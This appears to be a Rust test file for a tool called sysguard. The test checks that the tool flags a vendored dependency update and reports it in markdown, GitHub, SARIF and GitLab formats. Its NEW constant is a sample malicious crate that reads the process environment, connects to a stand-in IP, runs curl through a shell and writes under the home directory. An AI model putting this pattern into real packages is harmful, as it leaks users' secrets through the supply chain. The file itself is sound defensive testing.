//! The example of the guide's page `first_review`: a new version of a dependency connects to
//! another machine, runs a shell with curl, reads its environment, and writes below the home
//! directory. Each format names the line that caused it.

use std::process::Command;

use libtest_mimic::Trial;
use serde_json::Value;

use super::project::{BINARY, Project, Ran, networked, run};

/// Returns the trials.
pub(crate) fn trials() -> Vec<Trial> {
    trials![worked:
        networked failure_fits_on_one_screen,
        networked pull_request_formats_point_at_the_source_line,
        networked cause_is_accepted_by_its_id,
    ]
}

/// The lines of a screen.
const SCREEN: usize = 50;

const MANIFEST: &str = "[package]\nname = \"greeter\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\n\
                        telemetry = \"1\"\n\n[workspace]\n";

const MAIN: &str = "fn main() {\n    telemetry::started(\"greeter\");\n    println!(\"hello\");\n}\n";

/// A registry in the package, so that nothing is downloaded.
const CONFIG: &str = "[source.crates-io]\nreplace-with = \"vendored\"\n\n[source.vendored]\ndirectory = \"vendor\"\n";

const OLD: &str = "pub fn started(_program: &str) {}\n";

/// The page shows this code.
const NEW: &str = r#"use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

pub fn started(program: &str) {
    let environment = std::fs::read("/proc/self/environ").unwrap_or_default();
    send(program, environment.len());
    let _ = Command::new("sh").args(["-c", "curl -s http://198.51.100.7/ -o /dev/null"]).status();
    remember(program);
}

#[inline(never)]
fn send(program: &str, size: usize) {
    if let Ok(mut stream) = TcpStream::connect("198.51.100.7:443") {
        let _ = writeln!(stream, "{program} {size}");
    }
}

#[inline(never)]
fn remember(program: &str) {
    let home = std::env::var("HOME").unwrap_or_default();
    let folder = format!("{home}/.config/telemetry");
    let _ = std::fs::create_dir_all(&folder);
    let _ = std::fs::write(format!("{folder}/id"), program);
}
"#;

/// Returns a package with a blessed baseline, and then a new version of its dependency.
fn bumped() -> Project {
    let project = Project::empty().file("Cargo.toml", MANIFEST).file("src/main.rs", MAIN);
    let project = project.file(".cargo/config.toml", CONFIG).file(".gitignore", "*.yaml.new\n");
    let document = "# greets; must not use the network without a review\nversion: 1\nbin: greeter\n";
    let project = project.file("expectations/greeter.yaml", document);
    telemetry(&project, "1.4.0", OLD);
    project.sysguard("bless").ends(0);
    run(project.run_by("git").args(["init", "--quiet"])).ends(0);
    project.commit();
    telemetry(&project, "1.5.0", NEW);
    project
}

/// Replaces the dependency, as `cargo update` does.
fn telemetry(project: &Project, version: &str, code: &str) {
    let manifest = format!("[package]\nname = \"telemetry\"\nversion = \"{version}\"\nedition = \"2024\"\n");
    project.write("vendor/telemetry/Cargo.toml", &manifest);
    project.write("vendor/telemetry/.cargo-checksum.json", "{\"files\":{}}");
    project.write("vendor/telemetry/src/lib.rs", code);
    run(project.run_by(env!("CARGO")).args(["update", "--quiet"])).ends(0);
}

/// Runs sysguard where the address belongs to the loopback interface, and no other network exists.
fn sysguard(project: &Project, line: &str, variables: &[(&str, &str)]) -> Ran {
    const SCRIPT: &str = "ip link set lo up && ip addr add 198.51.100.7/32 dev lo && exec \"$@\"";
    let mut command: Command = project.run_by("unshare");
    command.args(["--net", "sh", "-c", SCRIPT, "sh", BINARY]).args(line.split_whitespace());
    run(command.envs(variables.iter().copied()))
}

/// Returns a text without what differs from run to run or from machine to machine: numbers of fds,
/// processes and bytes, and the number of findings.
fn normalised(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(|character: char| character.is_ascii_digit()) {
        let end = rest[start..].find(|character: char| !character.is_ascii_digit()).map_or(rest.len(), |at| start + at);
        let (before, after) = (rest[..start].chars().next_back(), rest[end..].chars().next());
        let stands_alone = before.is_some_and(|before| "([/ ".contains(before))
            && after.is_none_or(|after| "),<]/ \n".contains(after));
        out.push_str(&rest[..start]);
        out.push_str(if stands_alone { "N" } else { &rest[start..end] });
        rest = &rest[end..];
    }
    out + rest
}

/// Returns the lines about the user's own code, and only the headings of other programs: what a
/// shell does depends on the machine.
fn own_lines(text: &str) -> String {
    let mut is_own = true;
    let mut lines = Vec::new();
    for line in text.lines() {
        let is_heading = line.starts_with('@');
        is_own = if is_heading { !line.contains("greeter → sh") } else { is_own || line.is_empty() };
        if is_own || is_heading || line.starts_with("  in: ") {
            let line = if line.starts_with('…') { line.split(" (").next().unwrap_or(line) } else { line };
            lines.push(line);
        }
    }
    normalised(&lines.join("\n"))
}

fn failure_fits_on_one_screen() {
    let project = bumped();
    let ran = sysguard(&project, "test", &[]).ends(101);
    let start = ran.stdout.find("greeter: ").expect("a failure");
    let whole = format!("{}{}", &ran.stdout[start..], ran.stderr.rsplit("Finished").next().unwrap_or_default());
    assert!(whole.lines().count() <= SCREEN, "{} lines:\n{whole}", whole.lines().count());
    let (message, _) = ran.stdout[start..].split_once("\n\n\nfailures:").expect("an end");
    let shown = own_lines(message);
    insta::assert_snapshot!(shown, @"");
    let page = include_str!("../../../src/guide/first_review.md");
    let on_page: String =
        own_lines(page.split("```text\n").nth(1).and_then(|rest| rest.split("```").next()).expect("a text"));
    assert_eq!(on_page.trim_end(), shown.trim_end(), "src/guide/first_review.md shows this");
}

fn pull_request_formats_point_at_the_source_line() {
    let project = bumped();
    let written = |format: &str, variables: &[(&str, &str)]| {
        sysguard(&project, &format!("test --update no --format {format}"), variables).ends(101).stdout
    };
    let page = written("markdown", &[]);
    let sections: Vec<&str> = page.split("\n#### ").collect();
    insta::assert_snapshot!(normalised(sections[1].trim_end()), @"");

    let summary = project.path("summary");
    let variables = [
        ("GITHUB_STEP_SUMMARY", summary.to_str().expect("UTF-8")),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("GITHUB_REPOSITORY", "me/greeter"),
        ("GITHUB_SHA", "0123abc"),
    ];
    let annotations = written("github", &variables);
    let first = annotations.lines().next().expect("an annotation");
    insta::assert_snapshot!(normalised(&first.replace("%0A", "\n")), @"");
    let link = "(https://github.com/me/greeter/blob/0123abc/src/main.rs#L2): ";
    assert!(project.read("summary").contains(link), "{}", project.read("summary"));

    let log: Value = serde_json::from_str(&written("sarif", &[])).expect("JSON");
    let results = log["runs"][0]["results"].as_array().expect("results");
    let connects = |result: &&Value| result["properties"]["key"] == "greeter::network::connect";
    let mut connect = results.iter().find(connects).expect("a result").clone();
    let text = connect["message"]["text"].as_str().map(normalised);
    connect["message"]["text"] = text.into();
    insta::assert_snapshot!(serde_json::to_string_pretty(&connect).expect("JSON"), @"");

    let violations: Vec<Value> = serde_json::from_str(&written("gitlab", &[])).expect("JSON");
    let own = violations.iter().filter(|violation| violation["location"]["path"] == "src/main.rs");
    let lines = own.map(|violation| {
        let text = violation["description"].as_str().map(normalised).unwrap_or_default();
        format!("{} {}:{} {text}", violation["severity"], "src/main.rs", violation["location"]["lines"]["begin"])
    });
    insta::assert_snapshot!(lines.collect::<Vec<_>>().join("\n"), @"");
}

fn cause_is_accepted_by_its_id() {
    let project = bumped();
    sysguard(&project, "test", &[]).ends(101);
    let pending: Value =
        serde_json::from_str(&project.sysguard("pending --format json").ends(101).stdout).expect("JSON");
    let groups = pending["groups"].as_array().expect("groups");
    let site = &groups[0]["site"];
    assert_eq!((&site["file"], &site["line"]), (&"src/main.rs".into(), &2.into()), "{site}");
    let id = groups[0]["id"].as_str().expect("an id");
    let wrong = project.sysguard("accept @00000000").ends(2);
    assert!(wrong.stderr.contains("no pending finding has the key `@00000000`"), "{}", wrong.stderr);
    project.sysguard(&format!("accept {id}")).ends(0);
    let file = project.read("expectations/greeter.yaml");
    assert!(file.contains("  network:\n    connect:\n") && !file.contains("credentials:"), "{file}");
    let left = project.sysguard("pending").ends(101).stdout;
    assert!(left.contains("greeter::credentials::getuid") && !left.contains("greeter::network::connect"), "{left}");
    project.sysguard("accept --all").ends(0);
    assert_eq!(project.sysguard("pending").ends(0).stdout, "");
    sysguard(&project, "test", &[]).ends(0);
}
